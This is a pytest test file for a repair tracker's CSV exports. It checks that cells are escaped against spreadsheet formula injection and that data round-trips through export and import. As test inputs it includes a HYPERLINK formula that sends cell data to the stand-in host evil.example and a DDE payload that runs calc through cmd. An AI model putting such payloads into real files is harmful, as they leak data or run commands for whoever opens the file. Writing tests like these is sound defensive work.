"""Every CSV a person opens (ORDS, the register, the monitor) opens safe in a spreadsheet:
no cell runs as a formula, numbers stay numbers, and an ORDS export imports back exactly."""

from __future__ import annotations

import csv
import io
import subprocess
import sys

from tests.support.tracker import make_tracker
from tracker.api.routers.monitor import csv_text
from tracker.services import stations
from tracker.store import tables as t

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"klik hier")'
TRIGGERS = tuple("=+-@\t\r")


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def runs(cell):
    """Whether a spreadsheet would take the cell as a formula (a signed number is no formula)."""
    if not cell.startswith(TRIGGERS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def test_ords_export_opens_safe_and_imports_back_the_same_text(tracker, tmp_path):
    r = tracker.post("repair", "/api/repairs", {
        "category": "elektrisch", "ords_category_id": 14, "outcome": "fixed",
        "brand": "@SUM(1+1)", "problem": FORMULA})
    assert r.status_code == 201, r.text
    tracker.post("repair", "/api/repairs", {"category": "elektrisch", "outcome": "fixed",
                                            "problem": "-. stekker vervangen", "brand": "'=x"})
    export = tracker.get("monitor", "/api/exports/ords.csv")
    assert export.status_code == 200
    assert not [c for c in cells(export.text) if runs(c)]
    rows = list(csv.DictReader(io.StringIO(export.text)))
    assert (rows[0]["problem"], rows[0]["brand"]) == ("'" + FORMULA, "'@SUM(1+1)")
    assert (rows[1]["problem"], rows[1]["brand"]) == ("'-. stekker vervangen", "''=x")

    path = tmp_path / "ords.csv"
    path.write_text(export.text, encoding="utf-8")
    for other in make_tracker(f"sqlite:///{tmp_path / 'other.db'}"):
        done = subprocess.run(
            [sys.executable, "-m", "tracker", "import", "ords", str(path)],
            env={"AMBACHT_DATABASE_URL": other.db.url, "PATH": "/usr/bin:/bin"},
            capture_output=True, text=True)
        assert done.returncode == 0 and "2 reparaties geïmporteerd" in done.stdout, done.stderr
        with other.db.read() as conn:
            imported = [row.data for row in conn.execute(  # the repairs, not the till's day
                t.events.select().where(t.events.c.stream.like("repair:%"))
                .order_by(t.events.c.id))]
        assert [(d["problem"], d["brand"]) for d in imported] == [
            (FORMULA, "@SUM(1+1)"), ("-. stekker vervangen", "'=x")]
        again = other.get("monitor", "/api/exports/ords.csv")
        assert again.text == export.text  # import(export) exports the very same file


def test_register_opens_safe(tracker):
    code = tracker.intake("elektrisch", 2.0, description="=cmd|' /C calc'!A0",
                          serial_number="-SN-0042")
    r = tracker.get("monitor", "/api/exports/register.csv")
    assert r.status_code == 200
    row = next(x for x in csv.DictReader(io.StringIO(r.text)) if x["code"] == code)
    assert (row["description"], row["serial_number"]) == ("'=cmd|' /C calc'!A0", "'-SN-0042")
    assert not [c for c in cells(r.text) if runs(c)]


def test_monitor_csv_quotes_text_and_keeps_numbers(tracker, clock):
    with tracker.db.write() as conn:
        stations.add_site(conn, "elders", FORMULA, None, clock())
    day = clock().date().isoformat()
    r = tracker.get("monitor", "/api/monitor.csv",
                    params={"from": day, "to": day, "municipality": FORMULA})
    assert r.status_code == 200, r.text
    assert ["municipality", "'" + FORMULA] in list(csv.reader(io.StringIO(r.text)))
    assert not [c for c in cells(r.text) if runs(c)]
    # a negative figure (a period with a refund but not its sale) must stay a number
    text = csv_text({"outflow": {"sold": {"kg": -3.5, "revenue_eur": -12.25}}, "site": "-x"})
    assert list(csv.reader(io.StringIO(text))) == [
        ["figure", "value"], ["outflow.sold.kg", "-3.5"], ["outflow.sold.revenue_eur", "-12.25"],
        ["site", "'-x"]]
